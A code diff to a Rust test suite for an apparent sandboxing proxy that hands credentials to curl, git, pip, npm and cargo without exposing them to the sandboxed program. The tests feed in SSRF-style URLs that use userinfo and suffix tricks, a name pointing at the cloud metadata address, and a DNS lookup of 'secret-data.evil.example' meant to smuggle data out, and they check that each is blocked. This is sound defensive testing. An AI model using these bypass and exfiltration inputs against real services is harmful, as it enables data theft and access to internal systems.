@@ -135,6 +135,30 @@ fn c6_a_credential_reaches_its_host_and_nothing_of_the_program() {
     assert_eq!(origin.desk.read("it-ran"), None);
 }
 
+/// A name server of a network of our own.
+struct Names {
+    log: PathBuf,
+    child: Child,
+}
+
+impl Names {
+    fn start(desk: &Desk, known: &[&str]) -> Self {
+        let log = desk.base.path().join("names");
+        let helper = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/it/names.py");
+        let mut command = Command::new("/usr/bin/python3");
+        let mut child = command.arg(helper).arg(&log).args(known).stdout(Stdio::piped()).spawn().unwrap();
+        BufReader::new(child.stdout.take().unwrap()).read_line(&mut String::new()).unwrap();
+        Self { log, child }
+    }
+}
+
+impl Drop for Names {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
 /// All of a process's memory that can be read.
 fn is_in_memory(key: &Canary, pid: u32) -> bool {
     use std::os::unix::fs::FileExt as _;
@@ -260,7 +284,13 @@ fn a_person_is_asked_about_a_host_once() {
 /// The tools that programs and agents use, each against a server of its own kind, with a credential that they never have.
 #[test]
 fn c6_curl_git_pip_npm_and_cargo_work_through_the_proxy() {
-    let (origin, key) = (Origin::start(), Canary::new());
+    // Of a host that is an address npm verifies another name: they are given one that has a name.
+    if !is_own_network("network::c6_curl_git_pip_npm_and_cargo_work_through_the_proxy") {
+        return;
+    }
+    let (mut origin, key) = (Origin::start_at(PUBLIC[0], 443, &["tools.example"]), Canary::new());
+    origin.target = "tools.example".to_owned();
+    let _names = Names::start(&origin.desk, &[&format!("tools.example={}", PUBLIC[0])]);
     let url = format!("https://{}", origin.target);
     let helper = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/it/stock.py");
     let stocked = Command::new("/usr/bin/python3").arg(helper).arg(&origin.folder).arg(&url).output().unwrap();
@@ -270,13 +300,13 @@ fn c6_curl_git_pip_npm_and_cargo_work_through_the_proxy() {
     origin.keep("GIT_TOKEN", "basic:x-access-token", key.as_str());
     let cargo = format!(
         "mkdir -p cargo/src cargo/.cargo && cd cargo && touch src/lib.rs && \
-         printf '[package]\\nname = \"it\"\\nversion = \"1.0.0\"\\n[dependencies]\\ntiny = {{ version = \"1\", registry = \"mine\" }}\\n' > Cargo.toml && \
+         printf '[package]\\nname = \"it\"\\nversion = \"1.0.0\"\\nedition = \"2021\"\\n[dependencies]\\ntiny = {{ version = \"1\", registry = \"mine\" }}\\n' > Cargo.toml && \
          printf '[registries.mine]\\nindex = \"sparse+{url}/index/\"\\n' > .cargo/config.toml && \
-         CARGO_HOME=/tmp/cargo {sysroot}/bin/cargo fetch && cat /tmp/cargo/registry/src/*/tiny-1.0.0/src/lib.rs"
+         PATH=$PATH:{sysroot}/bin CARGO_HOME=/tmp/cargo cargo fetch -q && cat /tmp/cargo/registry/src/*/tiny-1.0.0/src/lib.rs"
     );
     // (credential, script, its output, paths that were asked for)
     let table = [
-        ("TOKEN", format!("curl -fsS {url}/simple/tiny/ | head -c 8"), "<a href=", vec!["/simple/tiny/"]),
+        ("TOKEN", format!("curl -fsS -o page {url}/simple/tiny/ && head -c 8 page"), "<a href=", vec!["/simple/tiny/"]),
         (
             "GIT_TOKEN",
             format!(
@@ -290,7 +320,7 @@ fn c6_curl_git_pip_npm_and_cargo_work_through_the_proxy() {
         (
             "TOKEN",
             format!(
-                "/usr/bin/python3 -m pip install -q --disable-pip-version-check --no-cache-dir --target lib \
+                "/usr/bin/python3 -m pip install -q --retries 0 --disable-pip-version-check --no-cache-dir --target lib \
                  --index-url {url}/simple/ tiny && PYTHONPATH=lib python3 -c 'import tiny; print(tiny.word)'"
             ),
             "tiny of pip\n",
@@ -299,7 +329,7 @@ fn c6_curl_git_pip_npm_and_cargo_work_through_the_proxy() {
         (
             "TOKEN",
             format!(
-                "mkdir npm && cd npm && npm install --silent --no-audit --no-fund --registry {url}/npm/ tiny && \
+                "mkdir npm && cd npm && npm install --silent --fetch-retries 0 --no-audit --no-fund --registry {url}/npm/ tiny && \
                  node -e 'console.log(require(\"tiny\"))'"
             ),
             "tiny of npm\n",
@@ -319,7 +349,8 @@ fn c6_curl_git_pip_npm_and_cargo_work_through_the_proxy() {
             assert!(key.is_in(one["headers"]["authorization"].as_str().unwrap().as_bytes()), "{path}: {one}");
         }
         assert!(!key.is_in(format!("{ran:?}").as_bytes()), "{script}");
-        let without = origin.exec(&["--read", sysroot], &format!("rm -rf tiny lib npm cargo; {script}"));
+        let without = origin
+            .exec(&["--limit", "time=60", "--read", sysroot], &format!("rm -rf page tiny lib npm cargo; {script}"));
         assert!(without.code != Some(0), "the control: no way out: {script}: {without:?}");
         assert_eq!(key.find_in(&origin.desk.workspace), Vec::<PathBuf>::new());
     }
@@ -336,7 +367,6 @@ fn c1_c2_c3_c4_c7_what_a_name_a_url_or_a_redirect_leads_to_is_looked_at_and_noth
     let names = ["files.example", "rebound.example", "xn--bcher-kva.example"];
     let origin = Origin::start_at(PUBLIC[0], 443, &names);
     origin.put("a", "the file\n");
-    let log = origin.desk.base.path().join("names");
     let known = [
         format!("files.example={}", PUBLIC[0]),
         format!("xn--bcher-kva.example={}", PUBLIC[0]),
@@ -345,10 +375,8 @@ fn c1_c2_c3_c4_c7_what_a_name_a_url_or_a_redirect_leads_to_is_looked_at_and_noth
         "metadata.example=169.254.169.254".to_owned(),
         format!("evil.example={}", PUBLIC[1]),
     ];
-    let helper = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/it/names.py");
-    let mut command = Command::new("/usr/bin/python3");
-    let mut server = command.arg(helper).arg(&log).args(known).stdout(Stdio::piped()).spawn().unwrap();
-    BufReader::new(server.stdout.take().unwrap()).read_line(&mut String::new()).unwrap();
+    let known: Vec<&str> = known.iter().map(String::as_str).collect();
+    let names_asked = Names::start(&origin.desk, &known);
     let ca = std::fs::read_to_string(origin.desk.base.path().join("ca.pem")).unwrap();
     origin.desk.write("ca.pem", &ca);
     let hosts = [&names[..], &["inside.example", "metadata.example"]].concat();
@@ -365,7 +393,9 @@ fn c1_c2_c3_c4_c7_what_a_name_a_url_or_a_redirect_leads_to_is_looked_at_and_noth
         ("https://files.example.evil.example/a", "403"),
         ("https://evilfiles.example/a", "403"),
         ("http://files.example:80@evil.example/", "evil.example cannot be reached"),
-        ("http://evil.example\\\\@files.example/", "40"),
+        // curl takes this for a password and goes to the host that is allowed, which has nothing there: the one that is
+        // judged is the one that is connected to.
+        ("http://evil.example\\\\@files.example/", "files.example:80: Connection refused"),
         // c1: names that lead inside
         ("https://inside.example/", "502"),
         ("http://metadata.example/latest/", "169.254.169.254, which is not on the internet"),
@@ -393,8 +423,6 @@ fn c1_c2_c3_c4_c7_what_a_name_a_url_or_a_redirect_leads_to_is_looked_at_and_noth
          echo \"== $(python3 -c 'import socket; socket.getaddrinfo(\"secret-data.evil.example\", 443)' 2>&1 | tail -n 1)\""
     );
     let ran = origin.exec(&flags, &script);
-    server.kill().unwrap();
-    server.wait().unwrap();
     let seen: Vec<&str> = ran.out.split("== ").skip(1).collect();
     assert_eq!(seen.len(), table.len() + 3, "{ran:?}");
     for ((args, expected), seen) in table.iter().zip(&seen) {
@@ -405,7 +433,7 @@ fn c1_c2_c3_c4_c7_what_a_name_a_url_or_a_redirect_leads_to_is_looked_at_and_noth
         rest[0].contains("403") && rest[1].starts_with("unknown") && rest[2].contains("socket.gaierror"),
         "{rest:?}"
     );
-    let asked = std::fs::read_to_string(&log).unwrap();
+    let asked = std::fs::read_to_string(&names_asked.log).unwrap();
     assert!(asked.contains("files.example 1\n"), "the control: {asked}");
     assert!(!asked.contains("evil") && !asked.contains("secret"), "no name was asked for that no rule allows: {asked}");
     let reached = origin.net(&origin.desk.brain());
